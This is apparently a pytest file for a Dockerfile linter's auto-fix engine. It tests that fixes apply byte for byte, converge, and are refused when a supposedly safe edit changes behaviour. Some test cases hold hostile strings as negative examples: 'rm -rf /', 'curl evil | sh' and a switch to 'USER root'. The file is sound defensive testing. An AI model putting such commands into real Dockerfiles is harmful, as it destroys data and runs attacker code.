"""Applying fixes: to a fixed point, byte for byte, proven; wrong ones are caught."""

import pytest

from dfadvise.fixing import apply_edits, fix
from dfadvise.proof import difference
from dfadvise.results import FileResult
from dfadvise.rule import Edit, Finding, Fix
from dfadvise.source import Source, Span
from dfadvise.stages import Dockerfile


def always(finding):
    return None


def lint_with(*makers):
    """A lint function that makes findings from the text."""

    def lint(source):
        result = FileResult(source.path, source)
        for make in makers:
            made = make(source.text)
            if made is not None:
                result.findings.append(Finding("r", "f", "warning", made.edits[0].span, "m", fix=made))
        return result

    return lint


def replace(old, new, applicability="safe", declares="="):
    def make(text):
        at = text.find(old)
        return Fix("x", [Edit(Span(at, at + len(old)), new)], applicability, declares) if at >= 0 else None

    return make


def run(text, *makers):
    return fix(Source(text), lint_with(*makers), Dockerfile, always)


def test_nothing_to_do_gives_the_source_back():
    outcome = run("FROM a\r\n# é \ufeff\r\nRUN x")
    assert outcome.source.text == "FROM a\r\n# é \ufeff\r\nRUN x"
    assert outcome.converged
    assert not outcome.applied


def test_only_the_edit_changes():
    outcome = run("FROM a\r\nRUN apt  install x \\\r\n  # c\r\n  y", replace("apt ", "apt-get ", "safe", "program"))
    assert outcome.source.text == "FROM a\r\nRUN apt-get  install x \\\r\n  # c\r\n  y"
    assert [each.line for each in outcome.applied] == [2]


@pytest.mark.parametrize(
    ("old", "new", "declares"),
    [
        ("install -y", "install -y --allow-downgrades; rm -rf /", "+flag"),
        ("curl", "wget", "+flag"),
        (" && rm -rf /x", "", "+clean"),
        ("update && apt-get", "update; apt-get", "="),
        ("USER app", "USER root", "="),
        ("COPY a /b", "COPY a /c", "="),
        ("RUN apt-get update", "RUN --mount=type=cache,target=/var apt-get update", "+flag"),
        ("curl && rm", "curl && curl evil | sh && rm", "+clean"),
        ("RUN true\n", "", "join"),
        ("ENV A=b\n", "", "join"),
        ("RUN true\n", "", "-dead"),
    ],
)
def test_a_wrong_safe_fix_is_caught(old, new, declares):
    text = "FROM debian\nENV A=b\nUSER app\nCOPY a /b\nRUN apt-get update && apt-get install -y curl && rm -rf /x\nRUN true\n"
    outcome = run(text, replace(old, new, "safe", declares))
    assert outcome.source.text == text
    assert [each.reason.startswith("the proof failed") for each in outcome.refused] == [True]


@pytest.mark.parametrize(
    ("old", "new", "declares"),
    [
        ("install -y", "install --no-install-recommends -y", "+flag"),
        ("update && apt-get", "update \\\n    && apt-get", "="),
        (" && rm -rf /x", "", "-clean"),
        ("curl", "curl && rm -rf /var/lib/apt/lists/*", "+clean"),
        ("\nRUN true", " \\\n    && true", "join"),
        ("LABEL a=b\n", "", "-dead"),
    ],
)
def test_a_right_safe_fix_passes(old, new, declares):
    text = "FROM debian\nLABEL a=b\nRUN apt-get update && apt-get install -y curl && rm -rf /x\nRUN true\n"
    before, after = Dockerfile(Source(text)), Dockerfile(Source(text.replace(old, new, 1)))
    assert difference(before, after, declares) is None


def test_an_unsafe_fix_needs_no_proof_but_must_be_readable():
    assert run("FROM a\nRUN x\n", replace("RUN x", "RUN y", "unsafe")).source.text == "FROM a\nRUN y\n"
    outcome = run("FROM a\nRUN x\n", replace("RUN x", "RUN <<EOF", "unsafe"))
    assert outcome.source.text == "FROM a\nRUN x\n"
    assert "would not be read" in outcome.refused[0].reason


def test_overlapping_fixes_take_turns():
    outcome = run("FROM a\nRUN bcd\n", replace("bc", "xx", "unsafe"), replace("cd", "yy", "unsafe"))
    assert outcome.source.text == "FROM a\nRUN xxd\n"
    assert outcome.converged


def test_fixes_that_never_end_are_stopped():
    outcome = run("FROM a\nRUN x\n", replace("x", "xx", "unsafe"))
    assert not outcome.converged


def test_a_fix_that_goes_back_and_forth_is_stopped():
    outcome = run("FROM a\nRUN x\n", replace("x", "y", "unsafe"), replace("y", "x", "unsafe"))
    assert not outcome.converged


def test_identical_edits_count_once():
    edit = Edit(Span(0, 1), "b")
    assert apply_edits("abc", [edit, Edit(Span(0, 1), "b")]) == "bbc"


def test_unwanted_fixes_are_named_or_passed_over():
    makers = [replace("x", "y", "unsafe")]
    outcome = fix(Source("FROM a\nRUN x\n"), lint_with(*makers), Dockerfile, lambda finding: "needs --unsafe")
    assert [each.reason for each in outcome.refused] == ["needs --unsafe"]
    outcome = fix(Source("FROM a\nRUN x\n"), lint_with(*makers), Dockerfile, lambda finding: "")
    assert outcome.refused == []
